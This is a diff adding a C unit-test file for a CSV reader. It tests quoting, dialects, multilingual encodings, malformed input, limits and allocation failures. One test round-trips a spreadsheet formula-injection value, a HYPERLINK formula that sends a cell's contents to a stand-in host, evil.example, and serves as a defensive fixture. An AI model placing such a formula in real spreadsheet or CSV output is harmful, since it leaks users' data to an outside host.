@@ -1,0 +1,426 @@
+/* The CSV reader through the convenience layer: dialects, quoting, line numbers, encodings
+ * and their detection, malformed input and limits. Fixtures are generated in a temp dir. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+
+#include <cmocka.h>
+#include <iconv.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "kartoteka/alloc.h"
+#include "kartoteka/csv_write.h"
+#include "kartoteka/read.h"
+#include "read/read_int.h"
+
+static char dir[256];
+
+static const char *put(const char *name, const void *data, size_t n)
+{
+    static char path[512];
+    snprintf(path, sizeof path, "%s/%s", dir, name);
+    FILE *f = fopen(path, "wb");
+    assert_non_null(f);
+    assert_int_equal(fwrite(data, 1, n, f), n);
+    fclose(f);
+    return path;
+}
+
+static const char *puts_file(const char *name, const char *s)
+{
+    return put(name, s, strlen(s));
+}
+
+/* UTF-8 text converted to enc, written to name. */
+static const char *put_enc(const char *name, const char *enc, const char *bom, const char *utf8)
+{
+    iconv_t cd = iconv_open(enc, "UTF-8");
+    assert_true(cd != (iconv_t)-1);
+    size_t n = strlen(utf8), bl = bom ? strlen(bom) : 0, ol = n * 4 + 8;
+    char *out = malloc(ol + bl), *op = out + bl, *ip = (char *)utf8;
+    if (bl) memcpy(out, bom, bl);
+    if (bom && !strcmp(enc, "UTF-16LE")) out[0] = '\xFF', out[1] = '\xFE', bl = 2, op = out + 2;
+    assert_true(iconv(cd, &ip, &n, &op, &ol) != (size_t)-1);
+    iconv_close(cd);
+    const char *p = put(name, out, (size_t)(op - out));
+    free(out);
+    return p;
+}
+
+static kt_reader *open_csv(const char *path, const kt_read_opts *o)
+{
+    kt_reader *rd = NULL;
+    kt_error err;
+    kt_status st = kt_reader_open_with(kt_read_builtin("csv"), path, o, &rd, &err);
+    if (st) print_error("%s\n", err.message);
+    assert_int_equal(st, KT_OK);
+    return rd;
+}
+
+static const kt_read_row *next_ok(kt_reader *rd)
+{
+    const kt_read_row *row;
+    kt_error err;
+    kt_status st = kt_reader_next(rd, &row, &err);
+    if (st) print_error("%s\n", err.message);
+    assert_int_equal(st, KT_OK);
+    return row;
+}
+
+static void expect_end(kt_reader *rd)
+{
+    const kt_read_row *row;
+    kt_error err;
+    assert_int_equal(kt_reader_next(rd, &row, &err), KT_NOTFOUND);
+    assert_int_equal(kt_reader_next(rd, &row, &err), KT_NOTFOUND);
+    assert_null(row);
+}
+
+/* Reads to the first failure; returns its status, err filled. */
+static kt_status read_all(const char *path, const kt_read_opts *o, kt_error *err)
+{
+    kt_reader *rd = NULL;
+    kt_status st = kt_reader_open_with(kt_read_builtin("csv"), path, o, &rd, err);
+    const kt_read_row *row;
+    while (!st) st = kt_reader_next(rd, &row, err);
+    kt_reader_close(rd);
+    return st;
+}
+
+static void quoting_and_lines(void **state)
+{
+    const char *p = puts_file("q.csv", "name,note\r\nAla,\"multi\r\nline, with comma\"\r\n"
+                                       "Ola,\"x\"\"y\"\r\n\r\nEla, spaced \r\nUla,\"\"\r\n");
+    kt_reader *rd = open_csv(p, NULL);
+    const kt_read_row *r = next_ok(rd);
+    assert_int_equal(r->count, 2);
+    assert_string_equal(r->keys[0], "name");
+    assert_string_equal(r->keys[1], "note");
+    assert_string_equal(r->values[1], "multi\r\nline, with comma");
+    assert_int_equal(r->line, 2);
+    assert_int_equal(r->record, 2);
+    r = next_ok(rd);
+    assert_string_equal(r->values[1], "x\"y");
+    assert_int_equal(r->line, 4);
+    assert_int_equal(r->record, 3);
+    r = next_ok(rd);
+    assert_string_equal(r->values[1], " spaced ");
+    assert_int_equal(r->line, 6);
+    r = next_ok(rd);
+    assert_string_equal(r->values[1], "");
+    assert_int_equal(r->line, 7);
+    expect_end(rd);
+    kt_reader_close(rd);
+}
+
+static void dialects(void **state)
+{
+    const char *p = puts_file("s.csv", "a;b;c\n1;\"2;x\";3\n");
+    kt_reader *rd = open_csv(p, NULL);
+    const kt_read_row *r = next_ok(rd);
+    assert_int_equal(r->count, 3);
+    assert_string_equal(r->values[1], "2;x");
+    kt_reader_close(rd);
+    p = puts_file("t.tsv", "a\tb\n1,5\t2\n");
+    rd = open_csv(p, NULL);
+    r = next_ok(rd);
+    assert_string_equal(r->values[0], "1,5");
+    assert_string_equal(r->values[1], "2");
+    kt_reader_close(rd);
+    kt_read_opts o = {.delimiter = ';'};
+    p = puts_file("c.csv", "a,b;c\n1,2;3\n");
+    rd = open_csv(p, &o);
+    r = next_ok(rd);
+    assert_int_equal(r->count, 2);
+    assert_string_equal(r->keys[0], "a,b");
+    kt_reader_close(rd);
+}
+
+static void bom_and_header_names(void **state)
+{
+    const char *p = puts_file("h.csv", "\xEF\xBB\xBFid,, name ,name,id\n1,2,3,4,5,6\n7\n");
+    kt_reader *rd = open_csv(p, NULL);
+    const kt_read_row *r = next_ok(rd);
+    const char *want[] = {"id", "col2", "name", "name_2", "id_2", "col6"};
+    assert_int_equal(r->count, 6);
+    for (int i = 0; i < 6; i++) assert_string_equal(r->keys[i], want[i]);
+    assert_int_equal(r->raw_count, 6);
+    r = next_ok(rd);
+    assert_string_equal(r->values[0], "7");
+    assert_null(r->values[1]);
+    assert_int_equal(r->raw_count, 1);
+    size_t n;
+    assert_non_null(kt_reader_header(rd, &n));
+    assert_int_equal(n, 6);
+    kt_reader_close(rd);
+    kt_read_opts o = {.no_header = 1};
+    rd = open_csv(p, &o);
+    r = next_ok(rd);
+    assert_string_equal(r->keys[0], "col1");
+    assert_string_equal(r->values[0], "id");
+    assert_int_equal(r->line, 1);
+    kt_reader_close(rd);
+}
+
+static void expect_text(const char *path, const kt_read_opts *o, const char *k0, const char *v0,
+                        const char *v1)
+{
+    kt_reader *rd = open_csv(path, o);
+    const kt_read_row *r = next_ok(rd);
+    assert_string_equal(r->keys[0], k0);
+    assert_string_equal(r->values[0], v0);
+    assert_string_equal(r->values[1], v1);
+    kt_reader_close(rd);
+}
+
+static void encodings(void **state)
+{
+    const char *pl = "Imię;Nazwisko;Miejscowość\nJózef;Małysz;Łódź\nAgnieszka;Napierała;"
+                     "Świeradów-Zdrój\nŻaneta;Gąsior;Kraków\n";
+    const char *p = put_enc("pl.csv", "CP1250", NULL, pl);
+    expect_text(p, NULL, "Imię", "Józef", "Małysz");
+    kt_read_opts o = {.encoding = "cp1250"};
+    expect_text(p, &o, "Imię", "Józef", "Małysz");
+    p = put_enc("l2.csv", "ISO-8859-2", NULL, pl);
+    o.encoding = "iso-8859-2";
+    expect_text(p, &o, "Imię", "Józef", "Małysz");
+    const char *ru = "Имя;Фамилия;Город\nКира;Рыбакова;Слюдянка\nОЛЬГА;ИВАНОВА;МОСКВА\n";
+    p = put_enc("ru.csv", "CP1251", NULL, ru);
+    expect_text(p, NULL, "Имя", "Кира", "Рыбакова");
+    const char *ar = "الاسم;العائلة\nعلي;محمد\nأحمد;حسن\nمريم;الكاظمي\n";
+    p = put_enc("ar.csv", "CP1256", NULL, ar);
+    expect_text(p, NULL, "الاسم", "علي", "محمد");
+    p = put_enc("u16.csv", "UTF-16LE", "\xFF\xFE", "name,city\nКира,Łódź\n");
+    expect_text(p, NULL, "name", "Кира", "Łódź");
+    p = put_enc("u16be.csv", "UTF-16BE", NULL, "\xEF\xBB\xBFname,city\nКира,Łódź\n");
+    expect_text(p, NULL, "name", "Кира", "Łódź");
+}
+
+static void detection_guesses(void **state)
+{
+    assert_string_equal(rd_guess_8bit((const unsigned char *)"Ma\xB3ysz J\xF3zef", 12), "CP1250");
+    assert_string_equal(rd_guess_8bit((const unsigned char *)"\xCA\xE8\xF0\xE0", 4), "CP1251");
+    assert_string_equal(rd_guess_8bit((const unsigned char *)"\xDA\xE1\xED", 3), "CP1256");
+    /* ASCII for longer than the sample, then cp1250: the reader switches, nothing lost. */
+    size_t n = 200000;
+    char *big = malloc(n + 64);
+    strcpy(big, "a,b\n");
+    size_t len = 4;
+    while (len < n) len += (size_t)sprintf(big + len, "x%zu,y\n", len);
+    len += (size_t)sprintf(big + len, "Ma\xB3ysz,\xA3\xF3" "d\x9F\n");
+    const char *p = put("late.csv", big, len);
+    free(big);
+    kt_reader *rd = open_csv(p, NULL);
+    const kt_read_row *r;
+    kt_error err;
+    const kt_read_row *last = NULL;
+    long count = 0;
+    while (kt_reader_next(rd, &r, &err) == KT_OK) last = r, count++;
+    assert_int_equal(err.code, KT_NOTFOUND);
+    assert_non_null(last);
+    assert_string_equal(last->values[0], "Małysz");
+    assert_string_equal(last->values[1], "Łódź");
+    assert_int_equal(last->line, count + 1);
+    kt_reader_close(rd);
+}
+
+static void split_multibyte(void **state)
+{
+    /* "żółw" rows so that sequences straddle every 64 KiB chunk boundary somewhere. */
+    FILE *f;
+    char path[512];
+    snprintf(path, sizeof path, "%s/mb.csv", dir);
+    assert_non_null(f = fopen(path, "wb"));
+    fputs("k,v\n", f);
+    for (int i = 0; i < 30000; i++) fputs("żółw,ąę\n", f);
+    fclose(f);
+    kt_reader *rd = open_csv(path, NULL);
+    const kt_read_row *r;
+    kt_error err;
+    int rows = 0;
+    while (kt_reader_next(rd, &r, &err) == KT_OK) {
+        assert_string_equal(r->values[0], "żółw");
+        assert_string_equal(r->values[1], "ąę");
+        assert_int_equal(r->line, rows + 2);
+        rows++;
+    }
+    assert_int_equal(rows, 30000);
+    kt_reader_close(rd);
+}
+
+static void invalid_bytes(void **state)
+{
+    kt_error err;
+    kt_read_opts o = {.encoding = "utf-8"};
+    const char *p = puts_file("bad.csv", "a,b\n1,2\n3,\xFF\n");
+    assert_int_equal(read_all(p, &o, &err), KT_INVALID);
+    assert_non_null(strstr(err.message, "line 3"));
+    assert_non_null(strstr(err.message, "bad.csv"));
+    p = puts_file("bad2.csv", "a,b\nż,1\n\"x\ny\",2\n\xC3\x28,3\n");
+    assert_int_equal(read_all(p, NULL, &err), KT_INVALID);
+    assert_non_null(strstr(err.message, "line 5"));
+    o.encoding = "cp1250";
+    p = puts_file("bad3.csv", "a,b\n1,\x98\n");
+    assert_int_equal(read_all(p, &o, &err), KT_INVALID);
+    assert_non_null(strstr(err.message, "line 2"));
+    o.encoding = "no-such-encoding";
+    assert_int_equal(read_all(p, &o, &err), KT_INVALID);
+    assert_non_null(strstr(err.message, "no-such-encoding"));
+    assert_int_equal(read_all("/nonexistent/x.csv", NULL, &err), KT_NOTFOUND);
+}
+
+static void broken_quoting(void **state)
+{
+    kt_error err;
+    const char *p = puts_file("bq.csv", "a,b\n1,2\n3,\"x\"y\n");
+    assert_int_equal(read_all(p, NULL, &err), KT_INVALID);
+    assert_non_null(strstr(err.message, "line 3"));
+    kt_read_opts o = {.lenient = 1};
+    assert_int_equal(read_all(p, &o, &err), KT_NOTFOUND);
+    p = puts_file("open.csv", "a,b\n1,2\n3,\"never\nclosed\n4,5\n");
+    assert_int_equal(read_all(p, NULL, &err), KT_INVALID);
+    assert_non_null(strstr(err.message, "line 3"));
+    assert_non_null(strstr(err.message, "never closed"));
+}
+
+static void limits(void **state)
+{
+    kt_error err;
+    size_t n = 5000;
+    char *s = malloc(n + 32);
+    strcpy(s, "a,b\n1,\"");
+    memset(s + 7, 'x', n);
+    strcpy(s + 7 + n, "\"\n");
+    const char *p = puts_file("big.csv", s);
+    kt_read_opts o = {.max_cell = 1000};
+    assert_int_equal(read_all(p, &o, &err), KT_LIMIT);
+    assert_non_null(strstr(err.message, "max_cell"));
+    assert_non_null(strstr(err.message, "line 2"));
+    o.max_cell = 0;
+    o.max_record = 2000;
+    assert_int_equal(read_all(p, &o, &err), KT_LIMIT);
+    assert_non_null(strstr(err.message, "max_record"));
+    free(s);
+    kt_read_opts f = {.max_fields = 10};
+    p = puts_file("wide.csv", "a\n1,2,3,4,5,6,7,8,9,10,11,12\n");
+    assert_int_equal(read_all(p, &f, &err), KT_LIMIT);
+    assert_non_null(strstr(err.message, "max_fields"));
+    /* A cell past the default 16 MiB with no line end: refused while it grows. */
+    char path[512];
+    snprintf(path, sizeof path, "%s/huge.csv", dir);
+    FILE *fp = fopen(path, "wb");
+    fputs("a\n\"", fp);
+    char block[65536];
+    memset(block, 'y', sizeof block);
+    for (int i = 0; i < 20 * 16; i++) fwrite(block, 1, sizeof block, fp);
+    fclose(fp);
+    assert_int_equal(read_all(path, NULL, &err), KT_LIMIT);
+    assert_non_null(strstr(err.message, "16777216"));
+}
+
+static void hostile_note_round_trip(void **state)
+{
+    kt_buf note = KT_BUF_INIT, file = KT_BUF_INIT;
+    kt_error err;
+    assert_int_equal(kt_buf_puts(&note, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\r\n",
+                                 &err), KT_OK);
+    while (note.len < 70000)
+        assert_int_equal(kt_buf_puts(&note, "Zażółć \"gęślą\" jaźń;\n,\t", &err), KT_OK);
+    const char *head[] = {"id", "note"}, *row1[] = {"1", note.data}, *row2[] = {"2", "ok"};
+    assert_int_equal(kt_csv_write_row(&file, head, 2, ',', 0, &err), KT_OK);
+    assert_int_equal(kt_csv_write_row(&file, row1, 2, ',', 0, &err), KT_OK);
+    assert_int_equal(kt_csv_write_row(&file, row2, 2, ',', 0, &err), KT_OK);
+    long nl = 0;
+    for (size_t i = 0; i < note.len; i++) nl += note.data[i] == '\n';
+    const char *p = put("note.csv", file.data, file.len);
+    kt_reader *rd = open_csv(p, NULL);
+    const kt_read_row *r = next_ok(rd);
+    assert_int_equal(strlen(r->values[1]), note.len);
+    assert_memory_equal(r->values[1], note.data, note.len);
+    r = next_ok(rd);
+    assert_string_equal(r->values[1], "ok");
+    assert_int_equal(r->line, 3 + nl);
+    kt_reader_close(rd);
+    kt_buf_free(&note);
+    kt_buf_free(&file);
+}
+
+static void registry_and_sniffing(void **state)
+{
+    kt_ext *x = kt_ext_new();
+    kt_error err;
+    assert_int_equal(kt_read_register_builtin(x, &err), KT_OK);
+    assert_int_equal(kt_read_register_builtin(x, &err), KT_EXISTS);
+    const char *p = puts_file("data.tsv", "a\tb\n1\t2\n");
+    kt_reader *rd = NULL;
+    assert_int_equal(kt_reader_open(x, p, NULL, NULL, &rd, &err), KT_OK);
+    assert_string_equal(next_ok(rd)->values[1], "2");
+    kt_reader_close(rd);
+    p = puts_file("noext", "[{\"a\": 1}]");
+    assert_string_equal(kt_read_sniff(p), "json");
+    assert_int_equal(kt_reader_open(x, p, NULL, NULL, &rd, &err), KT_OK);
+    assert_string_equal(next_ok(rd)->values[0], "1");
+    kt_reader_close(rd);
+    assert_int_equal(kt_reader_open(x, p, "nosuch", NULL, &rd, &err), KT_NOTFOUND);
+    assert_null(rd);
+    kt_ext_free(x);
+}
+
+static void empty_file(void **state)
+{
+    const char *p = puts_file("empty.csv", "");
+    kt_reader *rd = open_csv(p, NULL);
+    expect_end(rd);
+    kt_reader_close(rd);
+}
+
+/* Every allocation failing in turn ends in an error, never a crash or a leak. */
+static void allocation_failures(void **state)
+{
+    const char *p = puts_file("af.csv", "a,b\n1,\"x\ny\"\n3,4\n");
+    for (unsigned long n = 1; n < 200; n++) {
+        kt_error err;
+        kt_alloc_fail_at(n);
+        kt_status st = read_all(p, NULL, &err);
+        kt_alloc_fail_at(0);
+        if (st != KT_NOTFOUND && st != KT_NOMEM) print_error("%lu: %d %s\n", n, st, err.message);
+        assert_true(st == KT_NOTFOUND || st == KT_NOMEM);
+    }
+}
+
+static int setup(void **state)
+{
+    const char *base = getenv("KT_TEST_TMP");
+    snprintf(dir, sizeof dir, "%s/readcsvXXXXXX", base && *base ? base : "/tmp");
+    if (base) {
+        char cmd[300];
+        snprintf(cmd, sizeof cmd, "mkdir -p '%s'", base);
+        if (system(cmd) != 0) return -1;
+    }
+    return mkdtemp(dir) ? 0 : -1;
+}
+
+static int teardown(void **state)
+{
+    char cmd[300];
+    snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
+    return system(cmd) == 0 ? 0 : -1;
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(quoting_and_lines), cmocka_unit_test(dialects),
+        cmocka_unit_test(bom_and_header_names), cmocka_unit_test(encodings),
+        cmocka_unit_test(detection_guesses), cmocka_unit_test(split_multibyte),
+        cmocka_unit_test(invalid_bytes), cmocka_unit_test(broken_quoting),
+        cmocka_unit_test(limits), cmocka_unit_test(hostile_note_round_trip),
+        cmocka_unit_test(registry_and_sniffing), cmocka_unit_test(empty_file),
+        cmocka_unit_test(allocation_failures),
+    };
+    return cmocka_run_group_tests(tests, setup, teardown);
+}
